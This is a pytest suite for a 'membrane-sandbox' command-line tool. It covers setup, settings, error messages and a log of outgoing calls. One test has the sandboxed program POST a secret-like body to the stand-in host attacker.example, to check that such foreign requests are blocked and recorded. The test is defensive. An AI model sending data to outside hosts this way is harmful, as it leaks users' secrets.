"""The `membrane-sandbox` command."""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING

import pytest
from support.sandbox_user import Program
from typer.testing import CliRunner

from membrane_sandbox.admin import app
from membrane_sandbox.home import Sandbox
from membrane_sandbox.switch_table import SWITCHES
from membrane_sandbox.switches import UnknownSwitchError

if TYPE_CHECKING:
    from pathlib import Path


def admin(*argv: str, folder: Path | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(app, argv, env={"MEMBRANE_SANDBOX": str(folder) if folder else None})
    return result.exit_code, result.output


def test_init_makes_a_program_that_runs(tmp_path: Path) -> None:
    folder = tmp_path / "my 'own' $HOME sandbox"
    code, text = admin("init", str(folder))
    assert (code, "SANDBOX-1234" in text) == (0, True)
    assert Program(folder / "bin" / "membrane").run("--version").out == "1.18.3 (sandbox)\n"
    assert "-I -S" in (folder / "bin" / "membrane.cmd").read_text()


def test_init_keeps_what_is_there_unless_told_otherwise(tmp_path: Path) -> None:
    admin("init", str(tmp_path), "--ready")
    admin("set", "layout", "compact", folder=tmp_path)
    admin("init", str(tmp_path))
    assert Sandbox(tmp_path).value("layout") == "compact"
    admin("init", str(tmp_path), "--fresh")
    assert Sandbox(tmp_path).value("layout") == "pretty"


def test_a_sandbox_may_be_moved(sandbox: Sandbox, tmp_path: Path) -> None:
    moved = sandbox.folder.rename(tmp_path / "elsewhere")
    assert Program(moved / "bin" / "membrane").run("connection", "list", "--json").code == 0


def test_the_program_may_be_a_link(sandbox: Sandbox, tmp_path: Path) -> None:
    link = tmp_path / "membrane"
    link.symlink_to(sandbox.bin / "membrane")
    assert Program(link).run("connection", "list", "--json").code == 0


def test_without_a_sandbox_the_program_says_what_to_do(sandbox: Sandbox) -> None:
    (sandbox.folder / "sandbox.sqlite").unlink()
    run = Program(sandbox.bin / "membrane").run("status")
    assert run.code == 1
    assert "Run `membrane-sandbox init` first." in run.err


def test_set_refuses_what_does_not_exist_and_suggests(sandbox: Sandbox) -> None:
    folder = sandbox.folder
    assert admin("set", "error", "bare", folder=folder) == (2, 'unknown switch "error"; did you mean "errors"?\n')
    code, text = admin("set", "layout", "compact", "errors", "bear", folder=folder)
    assert (code, text) == (
        2,
        'errors cannot be "bear"; it is one of text | bare | envelope | stderr-json; did you mean "bare"?\n',
    )
    assert sandbox.value("layout") == "pretty"  # all or none
    assert admin("set", "layout", folder=folder) == (2, "layout has no value\n")
    assert admin("set", "hang-seconds", "-1", folder=folder)[0] == 2


def test_set_takes_several(sandbox: Sandbox) -> None:
    assert admin("set", "layout", "compact", "hang-seconds", "5", folder=sandbox.folder)[0] == 0
    assert (sandbox.value("layout"), sandbox.value("hang-seconds")) == ("compact", "5")


def test_switches_shows_all_of_them(sandbox: Sandbox) -> None:
    code, text = admin("switches", folder=sandbox.folder)
    assert code == 0
    assert all(f"{switch.name} = " in text and switch.meaning in text for switch in SWITCHES.values())


def test_every_value_of_every_switch_can_be_set_and_no_other(sandbox: Sandbox) -> None:
    for switch in SWITCHES.values():
        for value in switch.values:
            sandbox.set(switch.name, value)
            assert sandbox.value(switch.name) == value
        with pytest.raises(UnknownSwitchError):
            sandbox.set(switch.name, "nonsense")


def test_approve_and_today(logged_out: Sandbox) -> None:
    assert admin("approve", folder=logged_out.folder) == (0, "0 connection(s) approved\n")
    assert admin("today") == (0, "2026-09-30\n")


def test_calls_shows_what_reached_the_account(sandbox: Sandbox, membrane: Program) -> None:
    membrane.action("get-product", {"id": "39887"})
    membrane.run("request", "faktoora", "https://attacker.example/x", "-X", "POST", "-d", "geheim")
    program, account, request, foreign = json.loads(admin("calls", "--json", folder=sandbox.folder)[1])
    assert program["argv"][:3] == ["action", "run", "get-product"]
    assert (account["parent"], account["method"], account["path"], account["status"]) == (
        program["id"],
        "GET",
        "/product/39887",
        200,
    )
    assert (request["exit"], foreign["kind"], foreign["path"], foreign["body"]) == (
        1,
        "foreign",
        "https://attacker.example/x",
        "geheim",
    )
    text = admin("calls", folder=sandbox.folder)[1]
    assert "    GET /product/39887" in text
    sandbox.forget_calls()
    assert sandbox.calls() == []


def test_no_folder_no_traceback(tmp_path: Path) -> None:
    code, text = admin("switches", folder=tmp_path)
    assert (code, "membrane-sandbox init DIR" in text) == (2, True)


def test_the_program_needs_nothing_from_the_environment(membrane: Program, tmp_path: Path) -> None:
    assert membrane.run("--version", env={"PYTHONPATH": str(tmp_path), "PYTHONHOME": "/nowhere", "LANG": "C"}).code == 0
    assert os.access(membrane.path, os.X_OK)
